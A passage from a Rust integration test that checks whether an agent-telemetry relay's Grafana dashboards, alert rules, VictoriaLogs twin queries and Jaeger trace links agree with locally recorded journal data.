                *got.entry(row_key(r)).or_default() += num(&r[value]);
            }
            for r in selected(records, vars, &e["where"]) {
                let add = if kind == "sum_by" {
                    values_at(r, e["sum"].as_str().unwrap()).first().map(num).unwrap_or(0.0)
                } else {
                    1.0
                };
                *want.entry(rec_key(r)).or_default() += add;
            }
        }
        "count_distinct" | "distinct_by" => {
            for r in rows {
                *got.entry(row_key(r)).or_default() += num(&r[value]);
            }
            let mut sets: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
            for r in selected(records, vars, &e["where"]) {
                sets.entry(rec_key(r)).or_default().insert(journal_key(r, e["of"].as_str().unwrap()));
            }
            let min = e["min"].as_u64().unwrap_or(1) as usize;
            want = sets.into_iter().filter(|(_, s)| s.len() >= min).map(|(k, s)| (k, s.len() as f64)).collect();
        }
        "rows" => {
            let (field, ptr) = e["key"].as_object().unwrap().iter().next().unwrap();
            for r in rows {
                *got.entry(r.get(field).map(scalar).unwrap_or_default()).or_default() += 1.0;
            }
            for r in selected(records, vars, &e["where"]) {
                *want.entry(journal_key(r, ptr.as_str().unwrap())).or_default() += 1.0;
            }
        }
        "sessions_without" => {
            for r in rows {
                got.insert(r.get("session.id").map(scalar).unwrap_or_default(), 1.0);
            }
            let all = selected(records, vars, &json!({}));
            let sessions: BTreeSet<String> = all.iter().map(|r| journal_key(r, "/session_id")).collect();
            let ended: BTreeSet<String> = all
                .iter()
                .filter(|r| journal_key(r, "/hook_event") == e["event"].as_str().unwrap())
                .map(|r| journal_key(r, "/session_id"))
                .collect();
            want = sessions.difference(&ended).map(|s| (s.clone(), 1.0)).collect();
        }
        other => panic!("expect kind {other}"),
    }
    (got, want)
}

/// A LogsQL twin with the variables anchored (LogsQL's `:~` is unanchored).
fn twin_query(q: &str, v: &Vars) -> String {
    let anchor = |x: &str| if x == ".*" { ".*".to_string() } else { format!("^(?:{x})$") };
    q.replace("$project", &anchor(&v.project).replace('\\', "\\\\"))
        .replace("$group", &anchor(&v.group).replace('\\', "\\\\"))
        .replace("$agent", &anchor(&v.agent).replace('\\', "\\\\"))
        .replace("$session", &anchor(&v.session).replace('\\', "\\\\"))
}

#[test]
#[ignore = "slow stage: the local stack (collector, Jaeger, VictoriaLogs: just stack-build) and node (scripts/grafana/tools.sh)"]
fn dashboards_alerts_and_links_hold_on_the_real_pipeline() {
    let tools = tools();
    let stack = stack::Stack::start();
    let col = start_collector(&stack);
    let endpoint = relay::Dest::Grpc(format!("http://127.0.0.1:{}", col.grpc));
    let tag = format!("-g{}", std::process::id());

    // Agent A: recorded fixtures + a security session; B: another agent in A's project;
    // C: a broken config file (records on defaults) and a torn journal line (a repair record).
    let a = relay::Install::new("grafana-a-");
    write_agent_config(&a, "builder-1", "team-alpha", "primary");
    std::fs::write(a.project.join("README.md"), "# demo\n").unwrap();
    let replays: Vec<relay::Replayed> =
        ["tools", "subagents", "multi-turn"].iter().map(|f| relay::replay(&a, f, &tag)).collect();
    let sec_sid = format!("5ec0a11d-0000-4000-8000-{:012}", std::process::id());
    security_session(&a, &sec_sid, &a.project.clone());
    let b = relay::Install::new("grafana-b-");
    write_agent_config(&b, "reviewer-2", "team-beta", "reviewer");
    security_session(&b, &format!("b0b0b0b0-0000-4000-8000-{:012}", std::process::id()), &a.project.clone());
    let c = relay::Install::new("grafana-c-");
    std::fs::write(config_file(&c), "[agent\nid = ").unwrap();
    let c_sid = format!("c0c0c0c0-0000-4000-8000-{:012}", std::process::id());
    let cp = c.project.clone();
    run_hooks(
        &c,
        &cp,
        &[
            call(&c_sid, &cp, "SessionStart", json!({"source": "startup"})),
            call(&c_sid, &cp, "UserPromptSubmit", json!({"prompt": "hello"})),
        ],
    );
    let seg = std::fs::read_dir(c.data.join("journal"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .unwrap();
    std::io::Write::write_all(&mut std::fs::OpenOptions::new().append(true).open(&seg).unwrap(), b"{\"seq\":99,\"torn")
        .unwrap();
    run_hooks(&c, &cp, &tool(&c_sid, &cp, 1, "Bash", json!({"command": "ls"}), false));
    // The relay refuses a broken config (the hook runs on defaults): C's relay gets a good one.
    // C's session never ends: after its span timeout the relay closes its spans, incomplete.
    let good = c.dir.path().join("relay-config.toml");
    std::fs::write(&good, "").unwrap();
    std::thread::sleep(Duration::from_secs(3));
    // And it went quiet mid-turn: the relay says so (a telemetry_gap, the "Telemetry gaps" panel).
    let c_env = vec![
        ("AGENT_TELEMETRY_CONFIG", good.to_str().unwrap()),
        ("AGENT_TELEMETRY_SPAN_TIMEOUT_SECS", "1"),
        ("AGENT_TELEMETRY_SESSION_SILENCE_SECS", "1"),
    ];
    for (e, extra) in [(&a, vec![]), (&b, vec![]), (&c, c_env)] {
        relay::relay_once(e, &endpoint, &extra, Duration::from_secs(120));
    }
    let records = journal(&[&a, &b, &c]);
    assert!(records.iter().any(|r| r["hook_event"] == "JournalRepair"), "the torn line became a repair record");
    assert!(records.iter().any(|r| r["metadata"]["config_error"].is_string()), "records on defaults say so");
    assert!(records.iter().any(|r| r["event_type"] == "telemetry_gap"), "C's silence became a telemetry_gap record");

    // Everything arrived in VictoriaLogs (and the collector's archive has flushed).
    let n = records.len();
    let arrived = stack::wait_for(Duration::from_secs(90), || {
        let rows = stack.victorialogs_query("service.name:=\"claude-code\" | stats count() as n");
        let got = rows.first().map(|r| num(&r["n"]) as usize).unwrap_or(0);
        (got >= n).then_some(got)
    });
    assert!(arrived.is_some(), "{n} records not in VictoriaLogs\n{}", stack.logs());
    std::thread::sleep(Duration::from_secs(2));

    // ---- names: what Loki would index and keep, from the collector's real output
    let (lr, la, sr, sa, nlogs, nspans) = archive_attrs(&col.archive);
    assert!(nlogs >= n && nspans > 0, "collector archive: {nlogs} logs, {nspans} spans");
    let (labels, sm) = loki_view(&lr, &la, true, true);
    println!("Loki index labels from the real output: {labels:?}\nstructured metadata: {} keys", sm.len());
    let vars_all = Vars::all();
    let shipped = shipped_queries();
    let mut qs: Vec<Query> =
        shipped.iter().map(|q| Query { query: substitute(&q.query, &vars_all), ..q.clone() }).collect();
    let templates = link_templates();
    for (ty, tpl) in &templates {
        qs.push(Query {
            id: format!("{ty} link"),
            lang: "logql",
            query: link_query(tpl, "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"),
        });
    }
    let parsed = assert_all_parse(&tools, &qs);
    let tmpl_re = regex_lite::Regex::new(r"\{\{\s*\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}").unwrap();
    let mut problems = Vec::new();
    let mut checked = 0;
    for q in &qs {
        for nm in parsed[&q.id]["names"].as_array().unwrap() {
            let (kind, name) = (nm["kind"].as_str().unwrap(), nm["name"].as_str().unwrap());
            let names: Vec<String> = if kind == "template" {
                tmpl_re.captures_iter(name).map(|c| c[1].to_string()).collect()
            } else {
                vec![name.to_string()]
            };
            for name in names {
                checked += 1;
                let ok = match kind {
                    "selector" => labels.contains(&name),
                    "filter" | "grouping" | "unwrap" | "template" => labels.contains(&name) || sm.contains(&name),
                    "resource" => sr.contains(&name),
                    "span" => sa.contains(&name),
                    "unscoped" => sr.contains(&name) || sa.contains(&name),
                    "intrinsic" => true,
                    other => panic!("name kind {other}"),
                };
                if !ok {
                    problems.push(format!("{}: {kind} `{name}` is not emitted", q.id));
                }
            }
        }
    }
    assert!(problems.is_empty(), "names the pipeline does not emit:\n{}", problems.join("\n"));
    println!("{checked} names in {} expressions checked against the collector's real output", qs.len());

    // ---- twins: each panel's and rule's question on VictoriaLogs == the journal's answer
    let twins = yaml_json("grafana/victorialogs-twins.yaml");
    // every panel and rule has its twin
    let mut covered = BTreeSet::new();
    for t in twins["panels"].as_array().unwrap() {
        covered.insert(format!("{} / {}", t["dashboard"].as_str().unwrap(), t["panel"].as_str().unwrap()));
    }
    for t in twins["rules"].as_array().unwrap() {
        covered.insert(format!("rule {}", t["rule"].as_str().unwrap()));
    }
    for q in &shipped {
        // An absence rule (`unless`: nothing arrived lately) has nothing to compare on a journal
        // that was just exported: its parts are parsed and their names checked above.
        if q.id.contains("/ variable ") || (q.id.starts_with("rule ") && q.query.contains(" unless ")) {
            continue;
        }
        let key = if q.id.starts_with("rule ") { q.id.clone() } else { q.id.rsplit_once(" / ").unwrap().0.to_string() };
        assert!(covered.contains(&key), "no LogsQL twin for {key}");
    }
    let one = Vars {
        project: a.project.file_name().unwrap().to_string_lossy().to_string(),
        group: "team-alpha".into(),
        agent: "builder-1".into(),
        session: regex_escape(&sec_sid),
    };
    let mut report = Vec::new();
    for t in twins["panels"].as_array().unwrap().iter().chain(twins["rules"].as_array().unwrap()) {
        let name = t["panel"].as_str().or(t["rule"].as_str()).unwrap();
        // alert rules have no variables: they are checked over everything
        let settings: Vec<(&str, &Vars)> = if t.get("rule").is_some() {
            vec![("All", &vars_all)]
        } else {
            vec![("All", &vars_all), ("one session", &one)]
        };
        for (label, vars) in settings {
            let q = twin_query(t["logsql"].as_str().unwrap(), vars);
            let rows = stack.victorialogs_query(&q);
            let (got, want) = twin_vs_journal(&rows, &t["expect"], &records, vars);
            // Sums of decimal fractions (costs) may differ in the last bits by the order added.
            let round = |m: BTreeMap<String, f64>| {
                m.into_iter().map(|(k, v)| (k, (v * 1e9).round() / 1e9)).collect::<BTreeMap<_, _>>()
            };
            let (got, want) = (round(got), round(want));
            assert_eq!(got, want, "{name} ({label}): VictoriaLogs `{q}` vs the journal");
            if label == "All" {
                assert!(!got.is_empty(), "{name}: the twin is empty on the recorded sessions: {q}");
                report.push(format!("{name}: {} group(s)", got.len()));
            }
        }
    }
    println!("{} twins agree with the journal:\n  {}", report.len(), report.join("\n  "));

    // ---- links: every span's logs by the trace->logs template, every log's trace in Jaeger
    let mut traces: BTreeSet<String> = replays.iter().map(relay::fixture_trace_id).collect();
    for row in stack.victorialogs_query("service.name:=\"claude-code\" | uniq by (trace_id)") {
        traces.insert(row["trace_id"].as_str().unwrap().to_string());
    }
    let mut spans_checked = 0;
    let mut spans_with_logs = 0;
    for tid in &traces {
        let trace = stack::wait_for(Duration::from_secs(30), || stack.jaeger_trace(tid))
            .unwrap_or_else(|| panic!("a log's trace link: trace {tid} not in Jaeger"));
        let jaeger_tid = trace["traceID"].as_str().unwrap().to_string();
        for sp in trace["spans"].as_array().unwrap() {
            let sid = sp["spanID"].as_str().unwrap();
            // the logs of that span, as the collector exported them (VictoriaLogs' own rows)
            let want = stack
                .victorialogs_query(&format!("trace_id:=\"{tid}\" span_id:=\"{sid}\" | fields agent_telemetry.hash"))
                .len();
            if want > 0 {
                spans_with_logs += 1;
            }
            for (ty, tpl) in &templates {
                let tid_as_grafana_has_it = if ty == "jaeger" { jaeger_tid.clone() } else { tid.clone() };
                let link = link_query(tpl, &tid_as_grafana_has_it, sid);
                // the LogQL link's meaning on VictoriaLogs: its trace_id / span_id filters
                let tid_filter = if link.contains("trace_id=~\"0*") {
                    format!("trace_id:~\"^0*{tid_as_grafana_has_it}$\"")
                } else {
                    format!("trace_id:=\"{tid_as_grafana_has_it}\"")
                };
                let got = stack
                    .victorialogs_query(&format!(
                        "service.name:=\"claude-code\" {tid_filter} span_id:=\"{sid}\" | fields agent_telemetry.hash"
                    ))
                    .len();
                assert_eq!(got, want, "{ty} span {sid} of {tid}: the link `{link}` finds {got} of its {want} log(s)");
            }
            spans_checked += 1;
        }
    }
    // every span that has logs is found by its link (tool, turn and session spans all do)
    assert!(spans_with_logs > 20, "{spans_with_logs} of {spans_checked} spans have logs");
    println!("trace->logs links checked on {spans_checked} spans ({spans_with_logs} with logs) of {} traces; every log's trace_id is a trace in Jaeger", traces.len());
}
